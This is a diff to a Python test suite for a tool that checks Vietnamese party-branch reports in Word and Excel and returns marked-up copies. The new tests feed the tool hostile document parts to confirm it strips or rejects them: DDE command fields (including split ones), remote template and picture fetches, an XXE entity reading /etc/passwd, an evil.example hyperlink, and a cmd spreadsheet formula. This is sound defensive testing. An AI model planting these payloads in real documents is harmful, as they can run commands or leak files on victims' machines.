@@ -26,6 +26,7 @@ BEFORE = dt.datetime(2022, 4, 16, 20, tzinfo=CAMPAIGN.zone)
 AFTER = dt.datetime(2022, 4, 19, 20, tzinfo=CAMPAIGN.zone)
 MESSAGE = "Số đảng viên dự (40) lớn hơn tổng số đảng viên (20). Đề nghị kiểm tra lại."
 LETTER = "thu-gui-don-vi.txt"
+W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 
 
 class Night:
@@ -195,7 +196,16 @@ def test_a_word_report_is_shaded_and_commented_where_it_is_wrong(night, tmp_path
     ("word/vbaProject.bin", "x"),
     ("word/_rels/settings.xml.rels", '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
                                      'Target="http://x/t.dotm" TargetMode="External"/></Relationships>'),
-    ("word/footer9.xml", "<w:ftr><w:instrText> DDEAUTO c:\\\\cmd </w:instrText></w:ftr>"),
+    ("word/_rels/settings.xml.rels", "<Relationships><Relationship Id='r' Type='http://x/attachedTemplate' "
+                                     "Target='http://x/t.dotm' TargetMode = 'External'/></Relationships>"),
+    ("word/_rels/document9.xml.rels", '<Relationships><Relationship Id="r" Type="http://x/aFChunk" '
+                                      'Target="plain.txt"/></Relationships>'),
+    ("word/footer9.xml", f'<w:ftr xmlns:w="{W}"><w:instrText> DDEAUTO c:\\\\cmd </w:instrText></w:ftr>'),
+    ("word/footer9.xml", f'<x:ftr xmlns:x="{W}"><x:fldChar x:fldCharType="begin"/><x:instrText>DD</x:instrText>'
+                         '<x:instrText>E c:\\\\cmd</x:instrText><x:fldChar x:fldCharType="end"/></x:ftr>'),
+    ("word/footer9.xml", f"<w:ftr xmlns:w='{W}'><w:fldSimple w:instr='INCLUDEPICTURE http://x/y.png'/></w:ftr>"),
+    ("word/footer9.xml", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'),
+    ("word/footer9.xml", "<w:ftr><w:t>a prefix that nothing declares"),
 ])
 def test_a_word_report_that_would_fetch_or_run_something_is_not_copied(night, tmp_path, part):
     path = tmp_path / "hostile.docx"
@@ -205,6 +215,39 @@ def test_a_word_report_that_would_fetch_or_run_something_is_not_copied(night, tm
     night.came("BC.docx", path.read_bytes())
     night.found("BC.docx", sheet="Đoạn 2", cell="2")
     assert night.told().keys() == {"Cần sửa - BC.xlsx", LETTER}
+
+
+def test_links_of_a_word_report_lead_nowhere_in_the_copy_and_its_author_is_the_office(night, tmp_path):
+    document = Document(BytesIO(report(tmp_path, "docx_plain")))
+    document.core_properties.author = "Nguyễn Văn A"
+    document.part.relate_to("http://evil.example/x", "http://schemas.openxmlformats.org/officeDocument/2006/"
+                            "relationships/hyperlink", is_external=True)
+    night.came("BC.docx", saved(document))
+    night.found("BC.docx", sheet="Đoạn 2", cell="2")
+    path = night.told()["Cần sửa - BC.docx"]
+    assert b"evil.example" not in b"".join(zipfile.ZipFile(path).read(n) for n in zipfile.ZipFile(path).namelist())
+    assert Document(str(path)).core_properties.author == CAMPAIGN.document.issuer_name
+
+
+def test_a_workbook_comes_back_without_what_could_act_and_its_sheet_is_known_by_its_hidden_name(night):
+    book = openpyxl.load_workbook(BytesIO(workbook(A1=1, A2=2, B1="x")))
+    book.properties.creator = "Nguyễn Văn A"
+    chart = openpyxl.chart.BarChart()
+    chart.add_data(openpyxl.chart.Reference(book["Chi bộ"], min_col=1, min_row=1, max_row=2))
+    book["Chi bộ"].add_chart(chart, "D4")
+    book["Chi bộ"].defined_names["Print_Area"] = DefinedName("Print_Area", attr_text="'Chi bộ'!$A$1")
+    book.create_sheet("Nguyễn Văn A")["G5"] = "40"
+    book.create_chartsheet("Biểu đồ").add_chart(openpyxl.chart.BarChart())
+    book["Chi bộ"]["B1"].value, book["Chi bộ"]["B1"].data_type = "=cmd|'/c calc'!A1", "s"
+    night.came("BC.xlsx", saved(book))
+    night.found("BC.xlsx", sheet="…")
+    path = night.told()["Cần sửa - BC.xlsx"]
+    marked = openpyxl.load_workbook(path)
+    assert marked.sheetnames == ["Cần sửa", "Chi bộ", "Nguyễn Văn A"]
+    assert marked["Nguyễn Văn A"]["G5"].comment
+    assert marked["Chi bộ"]["B1"].data_type == "s" and not marked["Chi bộ"].defined_names
+    assert marked.properties.creator == CAMPAIGN.document.issuer_name
+    assert not [n for n in zipfile.ZipFile(path).namelist() if "chart" in n or "media" in n]
 
 
 def test_the_letter_says_which_file_which_cell_what_to_do_and_by_when(night, tmp_path):
